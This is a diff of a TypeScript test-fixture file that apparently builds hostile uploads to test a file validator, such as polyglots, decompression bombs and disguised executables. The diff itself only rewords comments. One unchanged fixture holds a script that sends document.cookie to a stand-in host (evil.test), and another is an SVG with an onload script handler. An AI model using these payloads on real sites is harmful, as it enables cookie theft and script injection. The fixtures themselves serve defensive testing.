@@ -2,11 +2,11 @@ import { deflateSync } from 'node:zlib'
 import { ascii, u8, u16, u16le, u32 } from '../media/bytes.ts'
 import { aGif, aJpeg, anMp4, aPng, aWebp, box, pngChunk } from '../media/samples.ts'
 
-/** A file whose name says what must happen to it; `because` is in the reason of a refusal. */
+/** A file whose name states the expected outcome. `because` is part of the refusal's reason. */
 export type BadFile = { name: `${'refused' | 'accepted'}-${string}`; content: Buffer; because?: string }
 
 const page = ascii('<!doctype html><html><script>fetch("//evil.test/"+document.cookie)</script></html>')
-/** The end record of an empty archive, by which unpackers find one behind anything. */
+/** The end record of an empty ZIP archive, which lets unpackers find an archive behind any other content. */
 const archive = Buffer.concat([ascii('PK\x05\x06'), Buffer.alloc(18)])
 const program = Buffer.concat([ascii('\x7fELF'), u8(2, 1, 1), Buffer.alloc(57)])
 const svg = ascii('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"/>')
@@ -18,7 +18,7 @@ const renamed = (file: Buffer, from: string, to: string) => patch(file, file.ind
 const typed = (brand: string) => behind(box('ftyp', ascii(brand), Buffer.alloc(4), ascii(brand)), box('meta', Buffer.alloc(64)))
 const wide = behind(u16(65_000), u16(65_000))
 
-/** A PNG of few bytes with as many pixels as are asked for. */
+/** A small PNG file with the given number of pixels. */
 const blank = (width: number, height: number) => aPng({ width, height })
 
 const polyglots: BadFile[] = [
@@ -118,5 +118,5 @@ const good: BadFile[] = [
   { name: 'accepted-hevc.mov', content: anMp4({ brand: 'qt  ', codec: 'hvc1' }) },
 ]
 
-/** Files that people, or those who mean harm, upload. */
+/** Files that people upload, with good or bad intentions. */
 export const badFiles: readonly BadFile[] = [...polyglots, ...bombs, ...others, ...good]
